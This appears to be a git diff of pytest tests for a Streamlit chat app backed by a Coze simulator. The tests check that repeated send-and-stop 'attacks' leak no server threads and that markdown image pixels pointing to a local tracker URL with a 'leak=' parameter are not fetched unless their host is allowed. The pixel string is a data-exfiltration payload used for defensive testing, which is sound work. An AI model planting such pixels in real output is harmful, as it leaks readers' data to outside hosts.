@@ -55,14 +55,17 @@ def live_env(sim: CozeSimulator, **extra: str) -> dict[str, str]:
 
 @pytest.mark.long
 @pytest.mark.timeout(420)
-def test_send_and_stop_again_and_again_starves_no_one(open_app, server_factory, sim) -> None:
+def test_send_and_stop_again_and_again_starves_no_one(
+    open_app, server_factory, sim, fast_sim
+) -> None:
     """Two tabs send a message Coze never answers and press Stop, 20 times each. A live user in
     a third tab is answered normally, and the server's threads come back to where they were.
 
     Each stop is a chance to leave a thread or a connection behind. A tab that sends within a
     minute gets 19 attacks through (the warm-up counts toward its 20 a minute; the 20th is
     refused, with no Stop), so 38 stops or more: one lost in ten stops would go unseen less
-    than 2% of the time (0.9 ** 38)."""
+    than 2% of the time (0.9 ** 38). (The attacks are answered late whatever the simulator's
+    rate; the user's answers come at ``fast_sim``'s.)"""
     server: harness.StreamlitServer = server_factory(live_env(sim))
     assert server.process is not None
     attackers = [open_app(server.url), open_app(server.url)]
@@ -156,24 +159,30 @@ def tracker() -> Iterator[Tracker]:
 
 @pytest.mark.timeout(180)
 def test_no_image_from_a_host_the_owner_did_not_allow_is_fetched(
-    open_app, server_factory, sim, fast_sim, tracker: Tracker
+    open_app, server, server_factory, sim, fast_sim, tracker: Tracker
 ) -> None:
-    pixel = f"![p]({tracker.url}/px.gif?leak=reader)"
+    def pixel(reader: str) -> str:
+        return f"![p]({tracker.url}/px.gif?leak={reader})"
+
     # The simulator quotes the question in its answer and its follow-up questions, so the
-    # pixel is in the person's message, in the bot's answer and in the follow-up labels.
-    guarded = open_app(server_factory(live_env(sim)).url)
-    bubble = guarded.ask(f"look {pixel}")
+    # pixel is in the person's message, in the bot's answer and in the follow-up labels. The
+    # session's server allows no image host but Coze's own.
+    guarded = open_app(server.url)
+    bubble = guarded.ask(f"look {pixel('guarded')}")
     expect(bubble).to_contain_text("You asked")
     expect(guarded.page.get_by_role("button", name="common pitfalls", exact=False)).to_have_count(1)
-    guarded.page.wait_for_timeout(1000)
-    assert tracker.hits == [], "the page fetched an image from a host that was not allowed"
     assert guarded.page.locator(f'img[src^="{tracker.url}"]').count() == 0
     expect(bubble.locator(f'a[href^="{tracker.url}"]').first).to_be_visible()  # a link now
 
     # The check can fail: with the tracker's host allowed, the same answer loads the image.
     allowed = open_app(server_factory(live_env(sim, COZE_IMAGE_HOSTS="127.0.0.1")).url)
-    allowed.ask(f"look {pixel}")
+    allowed.ask(f"look {pixel('allowed')}")
     deadline = time.monotonic() + 10
     while not tracker.hits and time.monotonic() < deadline:
         time.sleep(0.1)
     assert tracker.hits and all(hit.startswith("/px.gif") for hit in tracker.hits)
+    # By now the guarded page has had longer than a page that shows the image needs to fetch
+    # it (a second page opened and answered after it), and it still has not.
+    assert all(hit.endswith("leak=allowed") for hit in tracker.hits), (
+        "the page fetched an image from a host that was not allowed"
+    )
